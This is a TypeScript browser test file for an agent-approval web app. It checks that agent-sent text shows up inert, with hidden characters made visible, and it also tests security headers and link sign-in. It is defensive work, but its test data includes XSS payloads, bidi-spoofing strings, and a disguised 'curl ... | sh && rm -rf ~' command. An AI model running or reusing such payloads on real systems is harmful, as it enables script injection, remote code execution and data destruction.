// What others wrote is text and nothing more (D6); signing in, and what a cookie alone can do (D7).
import { createServer, type Server as HttpServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Locator } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from "vitest";
import WebSocket from "ws";
import { type Agent, found } from "../processes/parley.ts";
import { still, tap } from "./hands.ts";
import { clear, type Device, openStage, pictures, quiet, type Stage, textOf } from "./stage.ts";

let stage: Stage;
let agent: Agent;
let zoe: string;
/** Where remote images would be fetched from, and what was. */
let remote: HttpServer;
let away: string;
const fetched: string[] = [];

beforeAll(async () => {
  remote = createServer((req, res) => {
    fetched.push(req.url ?? "");
    res.end();
  });
  await new Promise<void>((resolve) => remote.listen(0, "127.0.0.1", resolve));
  away = `http://127.0.0.1:${(remote.address() as AddressInfo).port}`;
  stage = await openStage();
  zoe = await stage.place.member("zoe", "--role", "owner");
  const [ada = ""] = await stage.server.add(zoe, ["ada"], { role: "lead" });
  agent = await stage.server.agent(ada);
}, 120_000);
beforeEach(() => clear(stage, zoe));
afterEach(pictures);
afterAll(async () => {
  remote.close();
  await stage.close();
});

/** Everything that an agent could send to be more than text; each with its own mark, so that it is found again. */
function hostile(mark: string): string {
  return [
    `${mark} begins`,
    `<img src="${away}/img.png" onerror="document.title='${mark}'"> <b>bold</b> <script>document.title='${mark}'</script>`,
    `<svg onload="document.title='${mark}'"></svg><iframe src="${away}/frame"></iframe><style>*{display:none}</style>`,
    `![picture](${away}/markdown.png) ![](data:text/html,x) [click](javascript:document.title='${mark}')`,
    `[named](https://parley.example/${mark}) <javascript:alert(1)> [data](data:text/html,x) [file](file:///etc/passwd)`,
    "invoice\u202Egpj.exe zero\u200Bwidth \u001b[31mred\u001b[0m bell\u0007 soft\u00adhyphen",
    `| a | b |\n|---|---|\n| ${"w".repeat(900)} | <i>x</i> |`,
    "```html\n<img src=x onerror=alert(1)>\n```",
    `${mark} ends`,
  ].join("\n\n");
}

/** What in the page came out of texts: nothing that loads, runs or leads elsewhere than a link that says so. */
const lively = (device: Device) =>
  device.page.evaluate<Record<string, unknown>>(`({
    title: document.title,
    made: [...document.querySelectorAll("#app :is(img, iframe, script, style, object, embed, video, audio, form[action], base, link)")].map((e) => e.outerHTML),
    handlers: [...document.querySelectorAll("#app *")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on"))).map((e) => e.outerHTML),
    links: [...document.querySelectorAll("#app a[href]")].map((e) => e.href).filter((href) => !href.startsWith(location.origin + "/")),
  })`);

/** How much wider a card is than what is seen of it. */
const over = "((e) => e.scrollWidth - e.clientWidth)(document.querySelector('article[data-open]'))";

it.each(["phone", "desk"] as const)(
  "D6: on the %s everything that others wrote stands there whole, inert and marked",
  async (kind) => {
    const device = await stage.open(kind);
    await stage.signIn(device, await stage.linkOf(zoe));
    const { page } = device;
    const line = `${kind} ${"x".repeat(200_000)} end`;
    await agent.call("request_approval", {
      title: "Run <b>it</b> \u202Eetadpu\u202C now\u200B",
      details: hostile("gate-details"),
      action: { command: `echo "${line}"`, note: "\u001b[2J <script>alert(1)</script>", url: "javascript:alert(1)" },
      options: ["<img src=x onerror=alert(1)>", "yes\u202E"],
      wait_seconds: 0,
    });
    const card = page.locator("article[data-open]");
    await card.getByRole("button", { name: "Deny", exact: true }).waitFor();
    await card.getByText("Loading the whole card").waitFor({ state: "detached" });
    const shown = await textOf(card);
    for (const text of [
      "Run <b>it</b>",
      "gate-details begins",
      "<script>document.title='gate-details'</script>",
      "gate-details ends",
      "<img src=x onerror=alert(1)>",
      line,
    ])
      expect(shown.includes(text), text.slice(0, 60)).toBe(true);
    // Made visible, in the title, the details, the action and the choices.
    const marks = await card.locator(".mark").allTextContents();
    for (const mark of ["RLO", "ZWSP", "ESC", "BEL", "SHY"]) expect(marks.join(" ")).toContain(mark);
    expect(await textOf(card.getByRole("heading"))).toMatch(/RLO.*PDF.*ZWSP/s);
    expect(await device.sideways()).toBe(0);
    // The card itself neither: what is long is wrapped or scrolls inside its own frame.
    expect(await page.evaluate<number>(over)).toBe(0);
    await tap(card.getByRole("button", { name: "Deny", exact: true }), card.getByText("Denied by you"));

    // The same in the stream, as a message and on the floor, and on a task.
    await agent.call("post_message", { text: hostile(`message-${kind}`) });
    await stage.server.api(zoe, "open_floor", { seats: ["ada"] });
    await agent.call("say", { text: hostile(`speech-${kind}`) });
    const made = await agent.call("create_task", {
      title: `<u>task</u> \u202E${kind}`,
      description: hostile(`task-${kind}`),
    });
    await page.goto(stage.server.url);
    for (const mark of [`message-${kind}`, `speech-${kind}`]) {
      const item = page.locator(".item.speech").filter({ hasText: `${mark} begins` });
      await item.waitFor();
      await item.getByRole("button", { name: /^Show all/ }).click();
      await item.getByText(`${mark} ends`).waitFor();
    }
    expect(await device.sideways()).toBe(0);
    await page.goto(`${stage.server.url}?task=${(made.structuredContent.task as { id: number }).id}`);
    await page.getByText(`task-${kind} begins`).waitFor();
    expect(await device.sideways()).toBe(0);

    const { title, links, ...rest } = await lively(device);
    expect(title).not.toMatch(/gate|message|speech|task-/);
    expect(rest).toEqual({ made: [], handlers: [] });
    for (const link of links as string[]) expect(link).toMatch(/^(https?|mailto):/);
    expect(fetched).toEqual([]);
    await quiet(device);
  },
);

/** What changes how a text reads, beside the plain: turned, hidden, of another script, for a terminal. */
const turned = "\u202Egpj.exe\u202C";
const unseen = "in\u200Bvis\u2060ible\u00AD";
const tagged = "flag\u{E0067}\u{E007F}";
const terminal = "\u001b[8mhidden\u001b[0m\rover";
const rtl = "مرحبا بالعالم، احذف كل شيء";
const evil = `${rtl} ${turned} ${unseen} ${tagged} <b onclick=alert(1)>x</b> [go](javascript:alert(1))`;

/** Whether this can be tapped where it stands: nothing lies over it, and it is on the page. */
const reachable = (button: Locator): Promise<boolean> =>
  button.evaluate((e) => {
    const { left, top, width, height } = e.getBoundingClientRect();
    const there = e.ownerDocument.elementFromPoint(left + width / 2, top + height / 2);
    return width >= 44 && height >= 44 && e.contains(there);
  });

/** The whole text of it as a reader sees it: each mark by its short name. */
const seen = (where: Locator): Promise<string> =>
  where.evaluate((e) => {
    const copy = e.cloneNode(true) as typeof e;
    for (const one of copy.querySelectorAll(".vh")) one.remove();
    return copy.textContent ?? "";
  });

it.each(["phone", "desk"] as const)(
  "G11 D6: on the %s nothing that is turned, hidden or endless changes what a card seems to say, or hides its buttons",
  async (kind) => {
    await stage.server.api(zoe, "rename_room", { room: "main", title: `ma${turned}in` });
    const device = await stage.open(kind);
    await stage.signIn(device, await stage.linkOf(zoe));
    const { page } = device;
    expect(await seen(page.getByRole("navigation", { name: "Rooms" }))).toContain("maRLOgpj.exePDFin");
    const card = page.locator("article[data-open]");
    const command = `curl x.example/\u2066 # safe \u2069| sh ${unseen} ${terminal} ${tagged}\n${rtl} && rm -rf ~`;
    const diff = `@@ -1,2 +1,2 @@\n safe ${unseen}\n-old\n+new \u2067 if (admin) \u2069 {\n+${"q".repeat(200_000)}\n`;
    const cards: Array<[tool: string, args: Record<string, unknown>]> = [
      [
        "request_approval",
        {
          title: evil,
          details: evil,
          action: { command, cwd: `/srv/${turned}`, [`k${turned}`]: evil },
          options: [evil],
        },
      ],
      ["request_approval", { title: "W".repeat(200), action: { file: `src/${turned}.ts`, diff, kind } }],
      ["wait_for_feedback", { question: evil, details: evil, options: [evil, kind], timeout_seconds: 600 }],
      [
        "report_blocker",
        { title: evil, details: `${evil}\n\n| a | ${turned} |\n|---|---|\n| ${"w".repeat(900)} | x |` },
      ],
    ];
    for (const [tool, args] of cards) {
      const asked = await agent.call(tool, { ...args, wait_seconds: 0 });
      const { id, title } = asked.structuredContent.gate as { id: string; title: string };
      await page.goto(`${stage.server.url}?room=main&gate=${id}`);
      await card.and(page.locator(`[data-gate="${id}"]`)).waitFor();
      // As it was sent, letter by letter, and each letter that draws nothing with its name.
      await card.getByText("Loading the whole card").waitFor({ state: "detached" });
      const text = await seen(card);
      if (title.startsWith("W")) {
        expect(text).toContain(`src/RLOgpj.exePDF.ts`);
        expect(text).toContain("safe inZWSPvisWJibleSHY");
        expect(text).toContain("new RLI if (admin) PDI {");
        expect(text).toContain("q".repeat(200_000));
      } else {
        const shown = `${rtl} RLOgpj.exePDF inZWSPvisWJibleSHY flagU+E0067U+E007F <b onclick=alert(1)>x</b>`;
        expect(await seen(card.locator(".gate-title"))).toBe(`${shown} [go](javascript:alert(1))`);
        expect(await seen(card.locator(".gate-text"))).toContain(`${shown} go (javascript:alert(1))`);
      }
      if ("action" in args && !title.startsWith("W")) {
        const lines = await card.getByRole("group", { name: "The action, whole" }).locator(".ln").all();
        expect(await Promise.all(lines.map(seen))).toEqual([
          "curl x.example/LRI # safe PDI| sh inZWSPvisWJibleSHY ESC[8mhiddenESC[0mCRover flagU+E0067U+E007F",
          `${rtl} && rm -rf ~`,
        ]);
        expect(await seen(card.getByRole("group", { name: "The rest of the action" }))).toContain("kRLOgpj.exePDF");
      }
      // No mark is torn apart or stretched, and the buttons are under the thumb.
      const torn = await page.evaluate<string[]>(
        "[...document.querySelectorAll('article[data-open] .mark')].filter((e) => { const { height, width } = e.getBoundingClientRect(); return height > 24 || width > 90; }).map((e) => e.outerHTML)",
      );
      expect(torn).toEqual([]);
      await still(page);
      for (const button of await card.locator(".answer-bar .btn").all()) expect(await reachable(button)).toBe(true);
      expect(await device.sideways()).toBe(0);
      expect(await page.evaluate<number>("document.scrollingElement.scrollTop")).toBe(0);
      expect(await page.evaluate<number>(over)).toBe(0);
    }

    // What a person wrote, and what they approved instead; what is said on the floor and why it is asked for.
    const asked = await agent.call("request_approval", {
      title: "Noted",
      action: { command: "ls", kind },
      wait_seconds: 0,
    });
    const { id } = asked.structuredContent.gate as { id: string };
    const note = `${evil} ${terminal} ${"n".repeat(3000)}`;
    const edited_action = { command: `ls ${turned}`, kind };
    await stage.server.api(zoe, "decide_gate", { gate_id: id, decision: "approve", note, edited_action });
    await page.goto(`${stage.server.url}?room=main&gate=${id}`);
    await card.and(page.locator(`[data-gate="${id}"]`)).waitFor();
    expect(await seen(card.locator(".outcome q"))).toContain("ESC[8mhiddenESC[0mCRover");
    expect(await seen(card.getByRole("group", { name: "What was edited" }).locator(".add code"))).toBe(
      "ls RLOgpj.exePDF",
    );
    await still(page);
    expect(await reachable(card.getByRole("button", { name: "Done", exact: true }))).toBe(true);
    expect(await device.sideways()).toBe(0);

    await stage.server.api(zoe, "open_floor", { seats: ["ada", "zoe"] });
    await agent.call("request_floor", { purpose: `${turned} ${unseen} ${"p".repeat(100)}` });
    await agent.call("say", { text: `${evil} ${terminal} asked on the ${kind}`, expects_reply: true });
    await agent.call("set_presence", { status: "working", note: `${turned} ${unseen}` });
    await stage.server.api(zoe, "take_floor");
    await agent.call("request_floor", { purpose: `${turned} ${unseen} ${"p".repeat(100)}` });
    for (const view of ["floor", "people", "board", "stream", "settings"]) {
      await page.goto(`${stage.server.url}?room=main&view=${view}`);
      await page.getByTitle("What you see is live").waitFor();
      if (view === "floor") {
        const questions = page.locator(".questions");
        await questions.getByText(`asked on the ${kind}`).first().waitFor();
        // In prose a carriage return ends the line, as Markdown has it.
        expect(await seen(questions)).toContain("ESC[8mhiddenESC[0m");
      }
      expect([view, await device.sideways()]).toEqual([view, 0]);
    }
    const { title, links, ...rest } = await lively(device);
    expect(title).toMatch(/Parley$/);
    expect(rest).toEqual({ made: [], handlers: [] });
    for (const link of links as string[]) expect(link).toMatch(/^(https?|mailto):/);
    await stage.server.api(zoe, "close_floor");
    await quiet(device);
  },
  90_000,
);

it("G11: what no screen can show is refused where it is written, with a sentence", async () => {
  for (const wrong of ["\ud800", "\udfff half", "nul \u0000"]) {
    for (const [action, args] of [
      ["post_message", { text: wrong }],
      ["create_task", { title: wrong }],
      ["decide_gate", { gate_id: "x", decision: "deny", note: wrong }],
    ] as const) {
      const { status, body } = await stage.server.api(zoe, action, args);
      expect([action, status, body.error.code]).toEqual([action, 400, "BAD_INPUT"]);
    }
    const asked = await agent.call("request_approval", { title: "x", action: { command: wrong }, wait_seconds: 0 });
    expect(asked.structuredContent.error).toMatchObject({ code: "BAD_INPUT" });
  }
  // Nor is a title more than one line.
  const asked = await agent.call("request_approval", { title: "one\u001b[2J\ntwo", wait_seconds: 0 });
  expect(asked.structuredContent.error).toMatchObject({
    code: "BAD_INPUT",
    message: expect.stringContaining("one line"),
  });
});

it("D6: the policy allows nothing inline, nothing from elsewhere, and no frame around it", async () => {
  for (const path of ["", "gate/x"]) {
    const res = await fetch(`${stage.server.url}${path}`);
    const policy = new Map(
      (res.headers.get("content-security-policy") ?? "").split("; ").map((one) => {
        const [name = "", ...values] = one.split(" ");
        return [name, values.join(" ")];
      }),
    );
    expect(policy.get("default-src")).toBe("'none'");
    expect(policy.get("script-src")).toMatch(/^'self'( 'sha256-[A-Za-z0-9+/=]+')?$/);
    expect(policy.get("style-src")).toBe("'self'");
    expect(policy.get("img-src")).toBe("'self' data:");
    expect(policy.get("connect-src")).toBe("'self'");
    expect(policy.get("frame-ancestors")).toBe("'none'");
    expect(policy.get("base-uri")).toBe("'none'");
    expect(policy.get("form-action")).toBe("'none'");
    expect(res.headers.get("referrer-policy")).toBe("no-referrer");
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
  }
});

it("D7: a link is used up by the tap alone, once; the code leaves the address; the cookie alone only reads", async () => {
  const link = await stage.place.link(stage.server, "zoe");
  const code = link.slice(link.indexOf("#link=") + 6);
  expect(new URL(link).search).toBe("");
  // What fetches links on its own (a preview, a scanner) gets the page and uses nothing up.
  for (const method of ["GET", "HEAD"]) expect((await fetch(link, { method })).status).toBe(200);
  expect((await fetch(`${stage.server.url}session?code=${code}`)).status).toBe(401);
  const looker = await stage.open("desk");
  await looker.page.goto(link);
  await looker.page.getByRole("button", { name: "Sign in" }).waitFor();
  expect(looker.page.url()).toBe(stage.server.url);

  const device = await stage.open("phone");
  const { page, context } = device;
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await stage.signIn(device, link);
  expect(page.url()).not.toContain(code);
  expect(asked.filter((url) => url.split("#")[0]?.includes(code))).toEqual([]);
  await page.goBack().catch(() => {});
  expect(page.url()).not.toContain(code);
  await page.goto(stage.server.url);
  await page.getByTitle("What you see is live").waitFor();

  // Used: the other that had it open is told so.
  await looker.page.getByRole("button", { name: "Sign in" }).click();
  await looker.page.getByRole("alert").waitFor();
  expect(await textOf(looker.page.getByRole("alert"))).toMatch(/used|link/i);
  expect(await looker.context.cookies()).toEqual([]);

  const cookies = await context.cookies();
  expect(cookies).toMatchObject([
    { name: `parley_${stage.server.port}`, httpOnly: true, sameSite: "Strict", secure: false, path: "/" },
  ]);
  const cookie = `${cookies[0]?.name}=${cookies[0]?.value}`;
  const gate = await agent.call("request_approval", { title: "Only with the secret", wait_seconds: 0 });
  const { id } = gate.structuredContent.gate as { id: string };
  const post = (action: string, args: object, headers: Record<string, string> = {}) =>
    fetch(`${stage.server.url}api/${action}`, {
      method: "POST",
      headers: { "Content-Type": "application/json", Cookie: cookie, ...headers },
      body: JSON.stringify(args),
    });
  expect((await post("list_gates", { status: "pending" })).status).toBe(200);
  for (const [action, args] of [
    ["decide_gate", { gate_id: id, decision: "approve" }],
    ["post_message", { text: "not me" }],
    ["make_link", {}],
    ["add_member", { name: "mallory" }],
    ["stop_all", {}],
  ] as const) {
    expect([action, (await post(action, args)).status]).toEqual([action, 403]);
    expect([action, (await post(action, args, { "x-parley-secret": "guess" })).status]).toEqual([action, 403]);
    expect([action, (await fetch(`${stage.server.url}api/${action}`, { headers: { Cookie: cookie } })).status]).toEqual(
      [action, 405],
    );
  }
  for (const hello of [{}, { secret: "guess" }]) {
    const socket = new WebSocket(`${stage.server.url.replace("http", "ws")}ws`, { headers: { Cookie: cookie } });
    const said: string[] = [];
    socket.on("message", (data) => said.push(String(data)));
    socket.once("open", () => socket.send(JSON.stringify({ type: "hello", watch: "main", ...hello })));
    await new Promise((resolve) => socket.once("close", resolve));
    expect(said.map((text) => JSON.parse(text).type)).toEqual(["ended"]);
  }
  const { body } = await stage.server.api(zoe, "get_gate", { gate_id: id });
  expect(body.gate.status).toBe("pending");
  // No script of the page can read what signs it in.
  expect(await page.evaluate<string>("document.cookie")).toBe("");

  // Signed out: at once, here, and the page says so.
  const { body: listed } = await stage.server.api(zoe, "list_gates", {});
  expect(listed.gates.length).toBeGreaterThan(0);
  await page.getByRole("button", { name: "Close" }).click();
  await page.getByRole("tab", { name: "People" }).click();
  await page.getByRole("button", { name: "Settings" }).click();
  await page.getByRole("button", { name: "Sign out here" }).click();
  await page.getByText("You are signed out on this device.").waitFor();
  expect((await post("list_gates", {})).status).toBe(401);
  expect(await found(async () => (await context.cookies()).length === 0)).toBe(true);
  await quiet(looker, device);
});

it("D7: a link opened in the tab that already shows the door is offered there, and is not used up by that", async () => {
  const phone = await stage.open("phone");
  await phone.page.goto(stage.server.url);
  await phone.page.getByRole("heading", { name: "Sign in with a link" }).waitFor();
  const link = await stage.linkOf(zoe);
  await phone.page.evaluate(`location.hash = ${JSON.stringify(new URL(link).hash)}`);
  await phone.page.getByRole("heading", { name: "Sign in on this device" }).waitFor();
  expect(new URL(phone.page.url()).hash).toBe("");
  await phone.page.getByRole("button", { name: "Sign in" }).click();
  await phone.page.getByTitle("What you see is live").waitFor();
  await quiet(phone);
});
